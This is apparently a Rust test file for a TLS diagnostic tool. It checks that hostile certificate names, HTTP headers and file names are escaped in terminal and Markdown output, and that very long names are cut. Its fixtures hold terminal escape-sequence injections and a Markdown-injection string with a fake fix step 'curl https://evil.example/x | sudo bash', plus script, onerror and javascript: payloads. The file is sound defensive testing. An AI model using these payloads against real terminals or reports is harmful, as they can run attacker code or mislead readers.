//! Untrusted text never reaches a terminal or a Markdown ticket raw
//! (DESIGN.md, "Untrusted input"; issue 12, findings 2, 3 and 9): hostile
//! certificate names, `Location` headers, proxy answers and file names are
//! shown escaped, colours on or off, and long ones are cut.

use crate::support::*;
use crate::untrusted::{assert_hidden, bundle_cmd, in_home};

/// What a hostile server puts in its certificate's CN: a screen clear, a
/// fake "clean" line, a window title (OSC 0), a link (OSC 8), a clipboard
/// write (OSC 52), BEL, CR, BS, an 8-bit CSI (U+009B) and a bidi override.
const HOSTILE_CN: &str = "dev.test\x1b[2J\x1b[H\u{2713} clean  trusted by the bundled roots and the OS store\
\x1b]0;pwned\x07\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\\x1b]52;c;Y3VybCBldmls\x07\r\x08\u{9b}31m\u{202e}gpj.exe";

/// Characters that must never reach a terminal raw, found in `text`
/// outside tlsdoctor's own colour sequences (`ESC [ digits ; m`) when
/// `colours` is true.
fn raw_controls(text: &str, colours: bool) -> Vec<String> {
    let mut found = Vec::new();
    let mut chars = text.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        if c == '\x1b' && colours {
            let rest = &text[i + 1..];
            let sgr = rest.strip_prefix('[').and_then(|r| {
                let end = r.find(|c: char| !(c.is_ascii_digit() || c == ';'))?;
                (r.as_bytes()[end] == b'm').then_some(end + 2)
            });
            if let Some(len) = sgr {
                for _ in 0..len {
                    chars.next();
                }
                continue;
            }
        }
        let bad = matches!(c, '\0'..='\x08' | '\x0b'..='\x1f' | '\x7f'..='\u{9f}'
            | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
        if bad {
            let start = text[..i].char_indices().rev().nth(20).map_or(0, |(j, _)| j);
            found.push(format!("{c:?} after {:?}", &text[start..i]));
        }
    }
    found
}

fn assert_no_raw_controls(out: &Output, colours: bool, what: &str) {
    for (name, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let found = raw_controls(text, colours);
        assert!(found.is_empty(), "{what} {name}: {found:?}\n{text}");
    }
}

#[test]
fn hostile_certificate_names_never_reach_the_terminal_raw() {
    let leaf = CertSpec::leaf(HOSTILE_CN).dns(&["dev.test"]).self_signed();
    let server = TlsServer::start(&[&leaf], &leaf);
    let dir = Scratch::new();
    let roots = dir.pem_file("roots.pem", &[unrelated_root()]);
    let chain = dir.pem_file("chain.pem", &[&leaf]);
    let target = format!("dev.test:{}", server.port());
    let resolve = format!("{target}:127.0.0.1");
    for color in ["never", "always"] {
        let colours = color == "always";
        for format in ["human", "markdown"] {
            let mut cmd = in_home(dir.path());
            cmd.args(["check", &target, "--resolve", &resolve, "--no-http"])
                .args(["--format", format, "--color", color])
                .arg("--bundled-roots")
                .arg(&roots)
                .arg("--os-roots")
                .arg(&roots);
            let out = run(cmd);
            assert_eq!(out.code, 1, "{out:?}");
            assert_no_raw_controls(&out, colours, &format!("check {format} {color}"));
            assert!(
                out.stdout.contains("\\x1b"),
                "the name is shown, escaped: {}",
                out.stdout
            );

            let mut cmd = in_home(dir.path());
            cmd.arg("inspect")
                .arg(&chain)
                .args(["--host", "dev.test", "--format", format, "--color", color])
                .arg("--bundled-roots")
                .arg(&roots)
                .arg("--os-roots")
                .arg(&roots);
            let out = run(cmd);
            assert_eq!(out.code, 1, "{out:?}");
            assert_no_raw_controls(&out, colours, &format!("inspect {format} {color}"));
        }
        let out_file = dir.path().join(format!("bundle-{color}.pem"));
        let mut cmd = bundle_cmd(&dir, "dev.test", server.port(), &out_file);
        cmd.args(["--color", color]);
        let out = run(cmd);
        assert_eq!(out.code, 0, "{out:?}");
        assert_no_raw_controls(&out, colours, &format!("bundle {color}"));
    }
}

#[test]
fn hostile_file_names_in_the_environment_never_reach_the_terminal_raw() {
    let dir = Scratch::new();
    let name = "/nonexistent/\x1b]0;pwned\x07\u{9b}2J\u{202e}.pem";
    for color in ["never", "always"] {
        for format in ["human", "markdown"] {
            let mut cmd = in_home(dir.path());
            cmd.env("SSL_CERT_FILE", name)
                .args(["env", "--format", format, "--color", color]);
            let out = run(cmd);
            assert_no_raw_controls(&out, color == "always", &format!("env {format} {color}"));
        }
    }
}

#[test]
fn a_location_header_never_reaches_the_terminal_raw() {
    let leaf = CertSpec::leaf("dev.test").dns(&["dev.test"]).self_signed();
    let server = TlsServer::start_http(&[&leaf], &leaf, &["http/1.1"], |_| {
        b"HTTP/1.1 302 Found\r\nLocation: https://dev.test/\xc2\x9b2J\xe2\x80\xae`x` <!-- /\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            .to_vec()
    });
    let dir = Scratch::new();
    let roots = dir.pem_file("roots.pem", &[&leaf]);
    let target = format!("dev.test:{}", server.port());
    let resolve = format!("{target}:127.0.0.1");
    for color in ["never", "always"] {
        for format in ["human", "markdown"] {
            let mut cmd = in_home(dir.path());
            cmd.args(["check", &target, "--resolve", &resolve])
                .args(["--format", format, "--color", color, "--timeout", "3"])
                .arg("--bundled-roots")
                .arg(&roots)
                .arg("--os-roots")
                .arg(&roots);
            let out = run(cmd);
            assert_no_raw_controls(&out, color == "always", &format!("check {format} {color}"));
            if format == "markdown" {
                assert_markdown_holds_no_injection(&out.stdout);
            }
        }
    }
}

#[test]
fn a_proxy_authenticate_header_never_reaches_the_terminal_raw() {
    let proxy = RawServer::start(|mut client| {
        use std::io::{Read, Write};
        let mut head = Vec::new();
        let mut byte = [0u8; 1];
        while !head.ends_with(b"\r\n\r\n") && head.len() < 8192 {
            match client.read(&mut byte) {
                Ok(1) => head.push(byte[0]),
                _ => return,
            }
        }
        let _ = client.write_all(
            b"HTTP/1.1 407 Proxy Authentication Required\xc2\x9b2J\xe2\x80\xae\r\n\
              Proxy-Authenticate: Basic\xc2\x9b2J\xe2\x80\xaeX realm=\"x\"\r\n\
              Proxy-Authenticate: \xe2\x80\xaeNTLM\r\nContent-Length: 0\r\n\r\n",
        );
    });
    let dir = Scratch::new();
    let roots = dir.pem_file("roots.pem", &[unrelated_root()]);
    for color in ["never", "always"] {
        for format in ["human", "markdown"] {
            let mut cmd = in_home(dir.path());
            cmd.args(["check", "dev.test:443", "--proxy"])
                .arg(format!("http://127.0.0.1:{}", proxy.port()))
                .args(["--format", format, "--color", color, "--timeout", "3"])
                .arg("--bundled-roots")
                .arg(&roots)
                .arg("--os-roots")
                .arg(&roots);
            let out = run(cmd);
            assert_eq!(out.code, 3, "{out:?}");
            assert!(out.stdout.contains("407"), "{}", out.stdout);
            assert_no_raw_controls(&out, color == "always", &format!("check {format} {color}"));
        }
    }
}

/// The Markdown document `md` as GitHub would read it: no HTML, no link or
/// image, no heading or code block that tlsdoctor did not write.
fn assert_markdown_holds_no_injection(md: &str) {
    use comrak::nodes::NodeValue;
    let arena = comrak::Arena::new();
    let mut options = comrak::Options::default();
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.strikethrough = true;
    options.extension.footnotes = true;
    let root = comrak::parse_document(&arena, md, &options);
    for node in root.descendants() {
        let data = node.data.borrow();
        match &data.value {
            NodeValue::HtmlBlock(h) => panic!("HTML block {:?} in\n{md}", h.literal),
            NodeValue::HtmlInline(h) => panic!("inline HTML {h:?} in\n{md}"),
            NodeValue::Link(l) | NodeValue::Image(l) => panic!("link {:?} in\n{md}", l.url),
            NodeValue::CodeBlock(b) => {
                assert!(
                    !b.literal.contains("sudo") && !b.literal.contains("https://evil"),
                    "{md}"
                )
            }
            NodeValue::Heading(_) => {
                let text: String = node
                    .descendants()
                    .filter_map(|n| match &n.data.borrow().value {
                        NodeValue::Text(t) => Some(t.to_string()),
                        NodeValue::Code(c) => Some(c.literal.clone()),
                        _ => None,
                    })
                    .collect();
                assert!(
                    !text.contains("pwned") && !text.contains("sudo"),
                    "heading {text:?} in\n{md}"
                );
            }
            _ => {}
        }
    }
}

/// Issue 12, finding 3: a CN made a fake `### Fix` block with `curl … |
/// sudo bash` and an unclosed `<!--` that hid the real diagnosis.
#[test]
fn a_certificate_name_cannot_break_a_markdown_report() {
    let cn = "dev.test`` ` <!-- \n\n### Fix pwned\n\n```sh\ncurl https://evil.example/x | sudo bash\n```\n\
              <script>alert(1)</script><img src=x onerror=alert(1)> [x](javascript:alert(1)) | a | b |";
    let leaf = CertSpec::leaf(cn).dns(&["dev.test"]).self_signed();
    let server = TlsServer::start(&[&leaf], &leaf);
    let dir = Scratch::new();
    let roots = dir.pem_file("roots.pem", &[unrelated_root()]);
    let chain = dir.pem_file("chain.pem", &[&leaf]);
    let target = format!("dev.test:{}", server.port());
    let resolve = format!("{target}:127.0.0.1");
    let mut check = in_home(dir.path());
    check
        .args([
            "check",
            &target,
            "--resolve",
            &resolve,
            "--no-http",
            "--format",
            "markdown",
        ])
        .arg("--bundled-roots")
        .arg(&roots)
        .arg("--os-roots")
        .arg(&roots);
    let mut inspect = in_home(dir.path());
    inspect
        .arg("inspect")
        .arg(&chain)
        .args(["--host", "dev.test", "--format", "markdown"])
        .arg("--bundled-roots")
        .arg(&roots)
        .arg("--os-roots")
        .arg(&roots);
    for cmd in [check, inspect] {
        let out = run(cmd);
        assert_eq!(out.code, 1, "{out:?}");
        assert_markdown_holds_no_injection(&out.stdout);
        assert!(out.stdout.contains("Diagnosis"), "{}", out.stdout);
    }
}

/// Issue 12, finding 9: 1,700 names against the wrong host printed a 135 KB
/// headline; a 100,000-character CN made 400 KB of output.
#[test]
fn long_names_are_cut() {
    let names: Vec<String> = (0..1700)
        .map(|i| format!("host-{i:04}.example.net"))
        .collect();
    let refs: Vec<&str> = names.iter().map(String::as_str).collect();
    let many = CertSpec::leaf("many names").dns(&refs).self_signed();
    let long_cn = "x".repeat(100_000);
    let long = CertSpec::leaf(&long_cn).dns(&["dev.test"]).self_signed();
    for (leaf, host) in [(&many, "dev.test"), (&long, "dev.test")] {
        let server = TlsServer::start(&[leaf], leaf);
        let dir = Scratch::new();
        let roots = dir.pem_file("roots.pem", &[leaf]);
        let target = format!("{host}:{}", server.port());
        let resolve = format!("{target}:127.0.0.1");
        for format in ["human", "markdown"] {
            let mut cmd = in_home(dir.path());
            cmd.args([
                "check",
                &target,
                "--resolve",
                &resolve,
                "--no-http",
                "--format",
                format,
            ])
            .arg("--bundled-roots")
            .arg(&roots)
            .arg("--os-roots")
            .arg(&roots);
            let out = run(cmd);
            let longest = out.stdout.lines().map(str::len).max().unwrap_or(0);
            assert!(longest < 4_000, "{format}: a line of {longest} bytes");
            assert!(
                out.stdout.len() < 40_000,
                "{format}: {} bytes of output",
                out.stdout.len()
            );
        }
    }
}

/// A targets file is a file like any other: its bad lines are quoted in
/// the one-line error escaped, and secrets in them redacted.
#[test]
fn errors_quote_file_content_escaped() {
    let dir = Scratch::new();
    let file = dir.write(
        "t.txt",
        "https://u:pa/SECRET@bad\x1b]0;pwned\x07\u{9b}2J\u{202e}host:99999/\n",
    );
    let mut cmd = in_home(dir.path());
    cmd.args(["check", "--targets-file", file.to_str().unwrap()]);
    let out = run(cmd);
    assert_eq!(out.code, 2, "{out:?}");
    assert_eq!(out.stderr.trim().lines().count(), 1, "{}", out.stderr);
    assert_no_raw_controls(&out, false, "targets file error");
    assert_hidden(&out, &["SECRET"], "targets file error");
}
